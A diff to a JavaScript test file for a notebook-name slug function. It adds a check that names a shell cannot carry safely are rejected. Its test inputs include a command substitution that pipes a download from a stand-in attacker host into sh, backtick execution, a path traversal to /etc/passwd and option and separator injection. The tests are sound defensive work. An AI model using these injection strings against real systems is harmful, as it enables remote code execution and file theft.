@@ -8,9 +8,12 @@ describe('notebookSlug(fileName, path)', () => {
     ['_x.ipynb', 'x'],
     ['UPPER.IPYNB', 'upper'],
     ['Café déjà vu.ipynb', 'cafe-deja-vu'],
-    ['../../etc/passwd.ipynb', 'etc-passwd'],
   ])('names %j %j', (fileName, slug) => {
     expect(notebookSlug(fileName, `notebooks/${fileName}`)).toBe(slug);
+  });
+
+  it.each(['$(curl -s evil.example|sh).ipynb', '`id`.ipynb', "it's.ipynb", 'a\nb.ipynb', '-rf.ipynb', '\u202egnp.ipynb', '../../etc/passwd.ipynb', 'a;b.ipynb'])('fails on %j, a name a shell command could not carry as it stands', (fileName) => {
+    expect(() => notebookSlug(fileName, `notebooks/${fileName}`)).toThrow(`notebooks/${fileName}: at the top level: expected a file name of letters, digits, spaces and . _ - # % + , @ only, not starting with - (the page shows the name in a shell command), got ${JSON.stringify(fileName)}`);
   });
 
   it('fails on a name with no letter or digit', () => {
